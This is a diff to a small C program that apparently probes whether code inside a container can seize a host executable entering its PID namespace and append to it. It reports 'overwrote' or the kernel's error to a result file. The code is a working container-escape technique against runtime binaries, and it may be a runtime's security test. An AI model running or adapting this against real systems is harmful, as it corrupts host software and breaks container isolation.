@@ -1,7 +1,7 @@
 /* Takes hold of a foreign program that enters this PID namespace, and writes to it once it may.
  *
  * usage: grab RESULT
- * RESULT gets "overwrote", or what the kernel says. */
+ * RESULT gets the size of the program and "overwrote", or what the kernel says. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -14,10 +14,8 @@
 #include <time.h>
 #include <unistd.h>
 
-/* Larger than any program of the container. */
-#define FOREIGN_BYTES (3 << 20)
-
-static int grab(void) {
+/* A program that is not on the container's file system. */
+static int grab(dev_t own) {
     for (;;) {
         char path[300];
         struct stat found;
@@ -31,7 +29,7 @@ static int grab(void) {
             int fd = open(path, O_RDONLY);
             if (fd < 0)
                 continue;
-            if (!fstat(fd, &found) && found.st_size > FOREIGN_BYTES) {
+            if (!fstat(fd, &found) && found.st_dev != own) {
                 closedir(all);
                 return fd;
             }
@@ -43,9 +41,13 @@ static int grab(void) {
 
 int main(int argc, char **argv) {
     char path[64], text[64] = "text file busy to the end";
+    struct stat found;
     if (argc != 2)
         return 2;
-    snprintf(path, sizeof path, "/proc/self/fd/%d", grab());
+    stat("/", &found);
+    int held = grab(found.st_dev);
+    fstat(held, &found);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
     time_t end = time(NULL) + 5;
     while (time(NULL) < end) {
         int fd = open(path, O_WRONLY | O_APPEND);
@@ -59,7 +61,7 @@ int main(int argc, char **argv) {
         }
     }
     FILE *out = fopen(argv[1], "w");
-    fputs(text, out);
+    fprintf(out, "%lld %s", (long long)found.st_size, text);
     fclose(out);
     pause();
     return 0;
